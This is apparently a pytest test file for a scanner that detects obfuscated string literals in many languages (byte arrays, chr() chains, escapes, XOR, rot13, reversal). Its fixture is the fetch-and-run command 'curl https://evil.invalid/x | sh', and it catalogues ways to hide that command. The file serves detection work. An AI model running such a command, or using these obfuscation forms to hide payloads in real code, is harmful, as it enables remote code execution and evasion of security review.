"""Text that is put together one character at a time, in the ways of several languages."""

from __future__ import annotations

import codecs
import time

import pytest

from scanner.codescan.literals import fold, hidden, in_pieces

SECRET = "curl https://evil.invalid/x | sh"
CODES = ", ".join(map(str, SECRET.encode()))
ALPHABET = "abcdefghijklmnopqrstuvwxyz:/."


def told(text: str) -> list[str]:
    return [one.encoding for one in (*hidden(fold(text)), *in_pieces(text)) if "https://" in one.telling]


def each(form: str, joined: str) -> str:
    return joined.join(form % code for code in SECRET.encode())


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("codes", f"x := string([]byte{{{CODES}}})"),
        ("codes", f"x := []byte{{\n\t{CODES},\n}}"),
        ("codes", "new String(new byte[] {" + each("(byte) 0x%02x", ", ") + "})"),
        ("codes", "const A: &[u8] = &[" + each("0x%02xu8", ", ") + "];"),
        ("codes", "x := string([]rune{" + each("'%c'", ", ") + "})"),
        ("codes", "let a = [" + each("b'%c'", ", ") + "];"),
        ("codes > xor 0x42", "k := []byte{" + ", ".join(hex(code ^ 0x42) for code in SECRET.encode()) + "}"),
        ("codes > xor 0xa5", "b = {" + ", ".join(str((code ^ 0xA5) - 256) for code in SECRET.encode()) + "};"),
        ("characters", "$f = " + each("chr(%d)", " . ") + ";"),
        ("characters", "$f = " + each("CHR(0x%x)", ".") + ";"),
        ("characters", "x = " + each("%d.chr", " + ")),
        ("escapes", '$f = "' + each("\\%o", "") + '";'),
        ("escapes", 'let f = "' + each("\\u{%x}", "") + '";'),
        ("pieces", 'a := "h" + "tt" + "ps" + "://" + "e.in"'),
        ("pieces", "$a = 'h' . 'tt' . 'ps' . '://' . 'e.in';"),
        ("picked from a table", f"$k = '{ALPHABET}'; $u = $k[7].$k[19].$k[19].$k[15].$k[18].$k[26].$k[27].$k[27];"),
        (
            "picked from a table",
            'p := []string{"h", "t", "p", "s:", "/"}\nu := p[0] + p[1] + p[1] + p[2] + p[3] + p[4] + p[4]',
        ),
        ("reversed", f"strrev('{SECRET[::-1]}')"),
        ("rot13", f"str_rot13('{codecs.encode(SECRET, 'rot13')}')"),
    ],
)
def test_what_is_spelled_out_is_read(encoding: str, text: str) -> None:
    assert encoding in told(text)


@pytest.mark.parametrize(
    "text",
    [
        "var table = []byte{0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1b, 0x36}",
        "$d = $date[6] . $date[7] . $date[8] . $date[9];",
        "crlf = 13.chr + 10.chr",
        "sum := v[0] + v[1] + v[2] + v[3] + v[4]",
        'path := "a" + "/" + "b" + "/" + "c"',
        "chars = ['a', '.', 'b', '+', 'c', ',', 'd', ';', 'e']",
    ],
)
def test_honest_code_is_spared(text: str) -> None:
    assert list(hidden(fold(text))) == []
    assert list(in_pieces(text)) == []


def test_php_joins_with_a_dot_and_lists_of_characters_stay_apart() -> None:
    assert fold("$a = 'child_' . 'process';") == "$a = 'child_process';"
    assert fold("['a', '.', 'b']") == "['a', '.', 'b']"


@pytest.mark.parametrize("piece", ["chr(1).", "p[1]+", "'a'+", "{1,", "'.',", "$a='bcdefgh';", "//:ptth", "1.chr + "])
def test_hostile_text_costs_little(piece: str) -> None:
    text = piece * (200_000 // len(piece))
    began = time.process_time()
    list(hidden(fold(text)))
    list(in_pieces(text))
    # Generous: it guards against minutes, not against milliseconds.
    assert time.process_time() - began < 20
